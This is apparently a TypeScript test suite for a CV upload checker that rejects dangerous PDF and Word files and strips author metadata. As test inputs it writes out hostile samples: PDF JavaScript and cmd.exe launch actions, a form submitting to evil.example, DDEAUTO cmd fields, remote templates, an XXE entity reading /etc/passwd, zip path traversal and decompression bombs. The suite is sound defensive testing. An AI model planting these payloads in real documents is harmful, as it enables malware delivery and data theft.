import { PDFDocument } from '@cantoo/pdf-lib'
import { unzipSync, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import {
  aDocx,
  aPdf,
  bombStream,
  docxParts,
  jpegWithPlace,
  objectStream,
  rawPdf,
  relationship,
  zipDeclaring,
} from '#test/harness/documents.ts'
import { checkDocument, type DocumentKind, kindOf } from './check-document.ts'

const bytesOf = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))
const has = (bytes: Uint8Array, words: string) => Buffer.from(bytes).includes(words)

/** What a person hears: kind first, as the upload does it. */
async function verdict(name: string, bytes: Uint8Array): Promise<string> {
  const kind = kindOf(name, bytes)
  if (!kind.ok) return kind.reason
  const checked = await checkDocument(kind.value, bytes)
  return checked.ok ? 'taken' : checked.reason
}
async function taken(kind: DocumentKind, bytes: Uint8Array): Promise<Uint8Array> {
  const checked = await checkDocument(kind, bytes)
  if (!checked.ok) throw new Error(checked.reason)
  return checked.value
}

describe('by name and first bytes', () => {
  test.each([
    ['cv.pdf', bytesOf('MZ\x90\0program'), 'wrong-content'],
    ['cv.pdf', bytesOf('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'), 'wrong-content'],
    ['cv.pdf', bytesOf('<!doctype html><script>alert(1)</script>'), 'wrong-content'],
    ['cv.docx', bytesOf('<?xml version="1.0"?><a/>'), 'wrong-content'],
    ['cv.pdf', aDocx(), 'wrong-content'],
    ['cv.docx', rawPdf(), 'wrong-content'],
    ['cv.svg', bytesOf('<svg/>'), 'wrong-kind'],
    ['cv.html', bytesOf('<p>'), 'wrong-kind'],
    ['cv.pdf.exe', rawPdf(), 'wrong-kind'],
    ['cv', rawPdf(), 'wrong-kind'],
    ['cv.doc', bytesOf('\xd0\xcf\x11\xe0old word'), 'old-word'],
    ['cv.docx', bytesOf('\xd0\xcf\x11\xe0locked with a password'), 'old-word'],
    ['cv.docm', aDocx(), 'macros'],
    ['cv.pdf', new Uint8Array(), 'empty'],
    ['CV.PDF', rawPdf(), 'taken'],
    ['Mit CV.docx', aDocx(), 'taken'],
  ])('%s', async (name, bytes, expected) => {
    expect(await verdict(name, bytes)).toBe(expected)
  })
})

describe('a PDF', () => {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
  test.each<[string, Parameters<typeof rawPdf>[0], string]>([
    ['script on opening', { catalog: `/OpenAction ${script}` }, 'active-content'],
    [
      'script spelled with numbers',
      { catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' },
      'active-content',
    ],
    [
      'script in the list of names',
      { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` },
      'active-content',
    ],
    [
      'script on a link',
      { page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${script} >>]` },
      'active-content',
    ],
    [
      'script hidden in an object stream',
      { catalog: '/OpenAction 9 0 R', objects: [objectStream(9, script)] },
      'active-content',
    ],
    ['script nothing points to', { objects: [script] }, 'active-content'],
    [
      'script behind another on the same link',
      { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>` },
      'active-content',
    ],
    ['a program to launch', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }, 'active-content'],
    [
      'a form that sends',
      { page: '/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>' },
      'active-content',
    ],
    ['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA [(a) (b)] >>' }, 'active-content'],
    [
      'a video',
      { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' },
      'active-content',
    ],
    [
      'a file inside',
      { catalog: '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 4 0 R >> >>] >> >>' },
      'embedded-files',
    ],
    [
      'a file on a pin',
      { page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]' },
      'embedded-files',
    ],
    [
      'another document to go to',
      { catalog: '/OpenAction << /S /GoToR /F (//evil/share) >>' },
      'external-content',
    ],
    [
      'a link that runs',
      { page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (javascript:alert(1)) >> >>]' },
      'external-content',
    ],
    [
      'a link to a file',
      { page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >> >>]' },
      'external-content',
    ],
    [
      'bytes in another file',
      { objects: ['<< /F (//evil/share) /Length 0 >>\nstream\n\nendstream'] },
      'external-content',
    ],
    [
      'a password',
      { trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >> /ID [(a) (a)]' },
      'encrypted',
    ],
    ['no page', { catalog: '/Pages 5 0 R', objects: ['<< /Type /Pages /Kids [] /Count 0 >>'] }, 'unreadable'],
    ['an object that breaks off', { objects: ['<< /A [ 1 2 '] }, 'unreadable'],
    [
      'an ordinary link',
      {
        page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.dk) >> >>]',
      },
      'taken',
    ],
    ['a place to open at', { catalog: '/OpenAction [3 0 R /Fit]' }, 'taken'],
  ])('%s', async (_, of, expected) => {
    expect(await verdict('cv.pdf', rawPdf(of))).toBe(expected)
  })

  test.each([
    ['a zip hung on behind', Buffer.concat([rawPdf(), aDocx()])],
    [
      'a page of the web before the first object',
      Buffer.from(
        Buffer.from(rawPdf())
          .toString('latin1')
          .replace('%PDF-1.7\n', '%PDF-1.7\n%<html><script>x</script>\n'),
        'latin1',
      ),
    ],
    ['something in front', Buffer.concat([Buffer.from('GIF89a'), rawPdf()])],
  ])('%s is refused as two things at once', async (_, bytes) => {
    expect(await verdict('cv.pdf', new Uint8Array(bytes))).toBe('wrong-content')
  })

  test('an object stream that unpacks to hundreds of megabytes is given up, also packed twice', async () => {
    for (const times of [1, 2] as const) {
      const before = process.memoryUsage().arrayBuffers
      const start = process.cpuUsage()
      expect(await verdict('cv.pdf', rawPdf({ objects: [bombStream(200, times)] }))).toBe('too-complex')
      // packing the bomb in the test is not counted
      expect(process.cpuUsage(start).user / 1000).toBeLessThan(3000)
      expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(400 * 1024 * 1024)
    }
  })

  test('a hundred thousand brackets do not bring the reader down', async () => {
    expect(await verdict('cv.pdf', rawPdf({ objects: ['['.repeat(100_000)] }))).toBe('unreadable')
  })

  test('is written anew without who wrote it, and shows the same', async () => {
    const original = await aPdf('Mit CV', 'Kanarie Forfatter')
    expect(has(original, 'Producer')).toBe(true)
    const safe = await taken('pdf', original)
    const again = await PDFDocument.load(safe, { updateMetadata: false })
    expect(again.getPageCount()).toBe(1)
    expect(again.getAuthor()).toBeUndefined()
    expect(again.getTitle()).toBeUndefined()
    expect(again.getCreator()).toBeUndefined()
  })

  test('what nothing points to any more, notes and their authors are gone', async () => {
    const safe = await taken(
      'pdf',
      rawPdf({
        catalog: '/Metadata 6 0 R /PieceInfo << /Word << /Private (Kanarie) >> >>',
        page: '/Annots [<< /Type /Annot /Subtype /Text /T (Kanarie Kommentator) /Contents (Kanarie) /Rect [0 0 9 9] >>]',
        objects: [
          '(Kanarie i en tidligere udgave)',
          '<< /Type /Metadata /Length 7 >>\nstream\nKanarie\nendstream',
        ],
      }),
    )
    const again = await PDFDocument.load(safe)
    const all = again.context
      .enumerateIndirectObjects()
      .map(([, object]) => String(object))
      .join('\n')
    expect(all).not.toContain('Kanarie')
    expect(has(safe, 'Kanarie')).toBe(false)
  })

  test('a photo in it loses the place it was taken', async () => {
    const photo = Buffer.from(jpegWithPlace('Kanarie 55.67')).toString('latin1')
    const image = `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode /Length ${photo.length} >>\nstream\n${photo}\nendstream`
    const bytes = rawPdf({ page: '/Thumb 5 0 R', objects: [image] })
    expect(has(bytes, 'Kanarie')).toBe(true)
    const safe = await taken('pdf', bytes)
    expect(has(safe, 'Kanarie')).toBe(false)
    expect(has(safe, 'ICC_PROFILE')).toBe(true)
  })
})

describe('a Word document', () => {
  const DTD = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "&x;&x;">]>'
  test.each<[string, Parameters<typeof aDocx>[0], string]>([
    ['macros', { parts: { 'word/vbaProject.bin': 'x' } }, 'macros'],
    [
      'macros by type',
      {
        types:
          '<Override PartName="/word/document2.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      },
      'macros',
    ],
    ['a control', { parts: { 'word/activeX/activeX1.xml': '<a/>' } }, 'active-content'],
    ['a spreadsheet inside', { parts: { 'word/embeddings/Ark1.xlsx': 'x' } }, 'embedded-files'],
    ['a program inside', { parts: { 'word/media/program.exe': 'x' } }, 'embedded-files'],
    ['another text pasted in as a file', { body: '<w:altChunk r:id="rId9"/>' }, 'embedded-files'],
    [
      'a template from the network',
      { relationships: relationship('rId5', 'attachedTemplate', 'https://evil.example/t.dotm', 'External') },
      'external-content',
    ],
    [
      'a template from a share',
      { relationships: relationship('rId5', 'attachedTemplate', 'file://evil/share/t.dotm', 'External') },
      'external-content',
    ],
    [
      'a share written with backslashes',
      { relationships: relationship('rId5', 'image', '\\\\evil\\share\\a.png') },
      'external-content',
    ],
    [
      'a picture from the web',
      { relationships: relationship('rId5', 'image', 'http://evil.example/a.png', 'External') },
      'external-content',
    ],
    [
      'an address without its mark',
      { relationships: relationship('rId5', 'frame', 'http://evil.example/a') },
      'external-content',
    ],
    [
      'a link that runs',
      { relationships: relationship('rId5', 'hyperlink', 'javascript:alert(1)', 'External') },
      'external-content',
    ],
    [
      'a field that runs',
      {
        body: '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd "x"</w:instrText></w:r></w:p>',
      },
      'external-content',
    ],
    [
      'a field that runs, its letters as numbers',
      { body: '<w:p><w:fldSimple w:instr="&#68;DEAUTO cmd"/></w:p>' },
      'external-content',
    ],
    [
      'a field that fetches',
      { body: '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/a.png "/></w:p>' },
      'external-content',
    ],
    ['a DTD', { parts: { 'word/styles.xml': `${DTD}<a>&y;</a>` } }, 'unreadable'],
    ['an unknown entity', { parts: { 'word/styles.xml': '<a>&lol;</a>' } }, 'unreadable'],
    [
      'text in another code',
      { parts: { 'word/styles.xml': new Uint8Array(Buffer.from('<a/>', 'utf16le')) } },
      'unreadable',
    ],
    [
      'another code named',
      { parts: { 'word/styles.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' } },
      'unreadable',
    ],
    ['ten thousand levels', { parts: { 'word/styles.xml': '<a>'.repeat(10_000) } }, 'unreadable'],
    ['no list of contents', { parts: { '[Content_Types].xml': '<Types/>' } }, 'wrong-content'],
    ['a way out of the folder', { parts: { '../../evil.xml': '<a/>' } }, 'wrong-content'],
    [
      'a drawing with a script',
      { parts: { 'word/media/a.svg': '<svg><script>1</script></svg>' } },
      'active-content',
    ],
    [
      'an ordinary link',
      { relationships: relationship('rId5', 'hyperlink', 'https://example.dk/mig?a=1&amp;b=2', 'External') },
      'taken',
    ],
    [
      'a template on their own disk',
      {
        relationships: relationship(
          'rId5',
          'attachedTemplate',
          'file:///C:\\Users\\kanarie\\Normal.dotm',
          'External',
        ),
      },
      'taken',
    ],
  ])('%s', async (_, of, expected) => {
    expect(await verdict('cv.docx', aDocx(of))).toBe(expected)
  })

  test('two parts of one name, and what lies before or behind the zip, are refused', async () => {
    const twice = zipSync({ ...docxParts(), 'WORD/document.xml': bytesOf('<a/>') })
    expect(await verdict('cv.docx', twice)).toBe('wrong-content')
    const behind = new Uint8Array(Buffer.concat([aDocx(), Buffer.from('<script>')]))
    expect(await verdict('cv.docx', behind)).toBe('wrong-content')
  })

  test('a bomb is judged by what it declares, and one that lies by what comes out', async () => {
    const start = process.cpuUsage()
    const mb = 1024 * 1024
    expect(await verdict('cv.docx', zipDeclaring('word/big.xml', 100 * mb, 100 * mb))).toBe('too-complex')
    expect(await verdict('cv.docx', zipDeclaring('word/big.xml', 30 * mb, 30 * mb))).toBe('too-complex')
    expect(await verdict('cv.docx', zipDeclaring('word/big.xml', 30 * mb, 1000))).toBe('too-complex')
    const many = Object.fromEntries(
      Array.from({ length: 1500 }, (_, i) => [`word/a${i}.xml`, bytesOf('<a/>')]),
    )
    expect(await verdict('cv.docx', zipSync({ ...docxParts(), ...many }))).toBe('too-complex')
    expect(process.cpuUsage(start).user / 1000).toBeLessThan(4000)
  })

  test('is written anew without people, history, comments and what was deleted', async () => {
    const original = aDocx({
      body: [
        '<w:p><w:ins w:id="1" w:author="Kanarie Retter" w:date="2014-01-01T00:00:00Z"><w:r><w:t>tilføjet</w:t></w:r></w:ins>',
        '<w:del w:id="2" w:author="Kanarie Retter"><w:r><w:delText>Kanarie slettet</w:delText></w:r></w:del>',
        '<w:commentRangeStart w:id="3"/><w:r><w:rPr><w:b/><w:rPrChange w:author="Kanarie"><w:rPr/></w:rPrChange></w:rPr><w:t>fed</w:t></w:r><w:commentRangeEnd w:id="3"/><w:r><w:commentReference w:id="3"/></w:r></w:p>',
      ].join(''),
      relationships:
        relationship('rId5', 'comments', 'comments.xml') +
        relationship('rId6', 'image', 'media/image1.jpeg') +
        relationship('rId7', 'attachedTemplate', 'file:///C:\\Users\\kanarie\\Normal.dotm', 'External'),
      types:
        '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>',
      parts: {
        'word/comments.xml': '<w:comments xmlns:w="x"><w:comment w:author="Kanarie"/></w:comments>',
        'word/media/image1.jpeg': jpegWithPlace('Kanarie 55.67'),
        'customXml/item1.xml': '<a>Kanarie</a>',
        'docProps/custom.xml': '<a>Kanarie</a>',
      },
    })
    const parts = unzipSync(await taken('docx', original))
    const all = Object.entries(parts).map(
      ([name, bytes]) => `${name}\n${Buffer.from(bytes).toString('latin1')}`,
    )
    expect(all.join('\n')).not.toMatch(/kanarie/i)
    expect(Object.keys(parts).sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'docProps/app.xml',
      'docProps/core.xml',
      'word/_rels/document.xml.rels',
      'word/document.xml',
      'word/media/image1.jpeg',
    ])
    const text = Buffer.from(parts['word/document.xml']!).toString()
    expect(text).toContain('tilføjet')
    expect(text).toContain('<w:b/>')
    expect(text).not.toMatch(/rsid|<w:ins|<w:del/)
    expect(Buffer.from(parts['word/_rels/document.xml.rels']!).toString()).toContain('media/image1.jpeg')
    // and it is a document that is taken again
    expect(await verdict('cv.docx', zipSync(parts))).toBe('taken')
  })
})
